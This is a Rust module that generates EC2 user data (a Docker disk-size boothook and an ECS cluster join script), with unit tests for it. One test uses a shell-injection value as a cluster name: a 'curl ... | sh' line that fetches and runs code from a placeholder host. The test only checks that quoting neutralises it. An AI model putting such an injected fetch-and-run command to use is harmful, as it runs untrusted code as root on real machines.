//! The user data of the run's machines, as DCP's run.py makes it (`generateUserData`): a
//! MIME multipart of a cloud boothook that gives each container its share of the disk
//! (Docker's `--storage-opt dm.basesize`, before Docker starts) and a shell script that
//! joins ECS_CLUSTER. Every value is quoted for the shell: the scripts run as root.

use base64::Engine;
use dcp_common::Config;

use crate::FleetError;

/// The boundary between the parts (no part contains it: values are one quoted line each).
const BOUNDARY: &str = "==dcp-user-data==";

fn setting(key: &str, message: String) -> FleetError {
    FleetError::FleetFile {
        file: String::new(),
        line: None,
        field: key.into(),
        message,
    }
}

fn quoted(key: &str, text: &str) -> Result<String, FleetError> {
    shlex::try_quote(text)
        .map(|q| q.into_owned())
        .map_err(|e| setting(key, format!("cannot be quoted for the shell: {e}")))
}

/// GB of disk each container gets: EBS_VOL_SIZE / TASKS_PER_MACHINE rounded, less 2 GB for
/// the rest, as DCP's run.py computes DOCKER_BASE_SIZE. Refused when nothing is left.
pub fn container_disk_gb(config: &Config) -> Result<u32, FleetError> {
    let share = (f64::from(config.ebs_vol_size) / f64::from(config.tasks_per_machine.max(1)))
        .round() as u32;
    share.checked_sub(2).filter(|gb| *gb > 0).ok_or_else(|| {
        setting(
            "EBS_VOL_SIZE",
            format!(
                "{} GB shared by TASKS_PER_MACHINE = {} containers leaves none of them more \
                 than the 2 GB Docker keeps: raise EBS_VOL_SIZE",
                config.ebs_vol_size, config.tasks_per_machine
            ),
        )
    })
}

/// The user data, base64-encoded as EC2 takes it.
pub fn user_data(config: &Config) -> Result<String, FleetError> {
    let cluster = quoted(
        "ECS_CLUSTER",
        &format!("ECS_CLUSTER={}", config.ecs_cluster),
    )?;
    let gb = container_disk_gb(config)?;
    let docker = quoted(
        "EBS_VOL_SIZE",
        &format!("OPTIONS=\"${{OPTIONS}} --storage-opt dm.basesize={gb}G\""),
    )?;
    let text = format!(
        "Content-Type: multipart/mixed; boundary=\"{BOUNDARY}\"\nMIME-Version: 1.0\n\n\
         --{BOUNDARY}\nContent-Type: text/cloud-boothook; charset=\"us-ascii\"\n\n\
         #!/bin/bash\nprintf '%s\\n' {docker} >> /etc/sysconfig/docker\n\
         --{BOUNDARY}\nContent-Type: text/x-shellscript; charset=\"us-ascii\"\n\n\
         #!/bin/bash\nprintf '%s\\n' {cluster} >> /etc/ecs/ecs.config\n\
         --{BOUNDARY}--\n"
    );
    Ok(base64::engine::general_purpose::STANDARD.encode(text))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn decoded(config: &Config) -> String {
        let bytes = base64::engine::general_purpose::STANDARD
            .decode(user_data(config).unwrap())
            .unwrap();
        String::from_utf8(bytes).unwrap()
    }

    fn run(line: &str) -> String {
        let out = std::process::Command::new("bash")
            .args(["-c", line])
            .output()
            .unwrap();
        String::from_utf8(out.stdout).unwrap()
    }

    #[test]
    fn each_container_gets_its_share_of_the_disk_less_2_gb() {
        let mut config = Config {
            ebs_vol_size: 40,
            tasks_per_machine: 2,
            ..Config::default()
        };
        assert_eq!(container_disk_gb(&config).unwrap(), 18);
        let text = decoded(&config);
        let line = text.lines().find(|l| l.contains("dm.basesize")).unwrap();
        let line = line.replace(" >> /etc/sysconfig/docker", "");
        assert_eq!(
            run(&line),
            "OPTIONS=\"${OPTIONS} --storage-opt dm.basesize=18G\"\n"
        );
        config.tasks_per_machine = 20;
        let err = container_disk_gb(&config).unwrap_err().to_string();
        assert!(err.contains("EBS_VOL_SIZE"), "{err}");
    }

    #[test]
    fn the_cluster_is_quoted_for_the_shell() {
        // A name that passed no check: quoted all the same, it stays one word of data.
        let config = Config {
            ecs_cluster: "dcp; curl -s http://x.example/y | sh #".into(),
            ..Config::default()
        };
        let text = decoded(&config);
        let line = text.lines().find(|l| l.contains("ECS_CLUSTER")).unwrap();
        assert!(line.ends_with(" >> /etc/ecs/ecs.config"), "{line}");
        let line = line.replace(" >> /etc/ecs/ecs.config", "");
        assert_eq!(
            run(&line),
            "ECS_CLUSTER=dcp; curl -s http://x.example/y | sh #\n"
        );
    }
}
